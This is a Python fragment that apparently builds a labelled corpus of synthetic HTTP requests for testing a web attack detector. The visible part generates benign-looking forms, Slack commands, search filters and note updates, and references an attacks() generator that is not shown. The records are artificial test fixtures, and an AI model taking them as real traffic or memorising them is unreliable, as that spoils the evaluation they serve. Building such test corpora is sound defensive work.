    n = yield from numbered(profiles, f"{NAME}-profile", n, "json")
    forms = (_form("/admin/users/search", [("csrf_token", "t0k3n"), ("display_name", name), ("notes", title)])
             for name, title, _ in PROFILES)
    n = yield from numbered(forms, f"{NAME}-adminform", n, "form")
    n = yield from numbered((slack_command(c, t, i) for i, (c, t) in enumerate(COMMANDS)), f"{NAME}-command", n,
                            "form")
    # the same words again in other places: chat lines as /todo items, searches as a JSON filter, prose as notes
    n = yield from numbered((slack_command("/todo", t, 100 + i) for i, t in enumerate(SLACK_TEXTS)),
                            f"{NAME}-command", n, "form")
    n = yield from numbered((_json("/api/users/search", {"filter": {"text": s}, "limit": 20}) for s in SEARCHES),
                            f"{NAME}-search", n, "json")
    yield from numbered((_json("/api/users/42", {"notes": t}) for t in PROSE), f"{NAME}-note", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
